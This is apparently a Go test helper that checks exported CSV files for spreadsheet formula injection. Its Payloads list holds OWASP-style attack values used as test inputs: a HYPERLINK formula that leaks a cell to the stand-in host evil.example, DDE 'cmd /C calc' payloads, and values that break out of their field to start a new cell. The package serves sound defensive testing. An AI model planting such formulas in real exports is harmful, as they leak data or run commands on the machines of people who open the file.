// Package sheettest checks, for tests, that a file the system writes is safe to open in Excel or
// WPS: no cell a spreadsheet would read as a formula. It checks by its own rules, not by calling
// package sheet, so that a mistake there cannot hide itself.
package sheettest

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"regexp"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"
)

// Payloads returns the CSV injection payloads every export test feeds in: OWASP's examples,
// the leading tab and CR it names, a formula behind white space, full-width forms, and values
// that try to close their field and start a new cell.
func Payloads() []string {
	return []string{
		`=HYPERLINK("http://evil.example/?leak="&E2,"点此核对")`,
		`+cmd|' /C calc'!A0`,
		`@SUM(1+1)*cmd|' /C calc'!A0`,
		`-2+3+cmd|' /C calc'!A0`,
		"=1+1",
		"\t=1+1",
		"\r=1+1",
		"\n=1+1",
		"  =1+1",
		"\u3000=1+1",
		"＝1+1",
		`张三,=1+1`,
		`张三","=1+1`,
		"张三\n=1+1",
		"-12.34",
	}
}

// plainNumber is a number a spreadsheet shows as a number and never runs.
var plainNumber = regexp.MustCompile(`^-?[0-9]+(\.[0-9]+)?$`)

// Unsafe reports whether a spreadsheet could read cell as a formula: it starts with = + - @,
// tab, CR, LF or NUL, or their full-width forms, before or after leading white space. A plain
// number (such as -12.34) is safe only where number says so.
func Unsafe(cell string, number bool) bool {
	if number && plainNumber.MatchString(cell) {
		return false
	}
	for _, s := range []string{cell, strings.TrimLeftFunc(cell, unicode.IsSpace)} {
		r, _ := utf8.DecodeRuneInString(s)
		if s != "" && strings.ContainsRune("=+-@\t\r\n\x00＝＋－＠", r) {
			return true
		}
	}
	return false
}

// UnsafeCells parses b as a CSV file (UTF-8, an optional byte order mark) the way a spreadsheet
// splits it into cells and returns every Unsafe cell as "row R column C: value". Columns in
// numeric (0-based) may hold plain numbers.
func UnsafeCells(t testing.TB, b []byte, numeric ...int) []string {
	t.Helper()
	r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b, []byte("\ufeff"))))
	r.FieldsPerRecord = -1
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatalf("not a CSV file: %v\n%s", err, b)
	}
	var out []string
	for i, row := range rows {
		for j, cell := range row {
			number := false
			for _, n := range numeric {
				number = number || n == j
			}
			if Unsafe(cell, number) {
				out = append(out, fmt.Sprintf("row %d column %d: %q", i+1, j+1, cell))
			}
		}
	}
	return out
}

// Holds reports whether some cell of the CSV file b holds s, neutralised or not: that is, the
// value is in the file, so a test that finds no unsafe cell has really looked at it.
func Holds(t testing.TB, b []byte, s string) bool {
	t.Helper()
	r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b, []byte("\ufeff"))))
	r.FieldsPerRecord = -1
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatalf("not a CSV file: %v", err)
	}
	for _, row := range rows {
		for _, cell := range row {
			if cell == s || cell == "'"+s {
				return true
			}
		}
	}
	return false
}
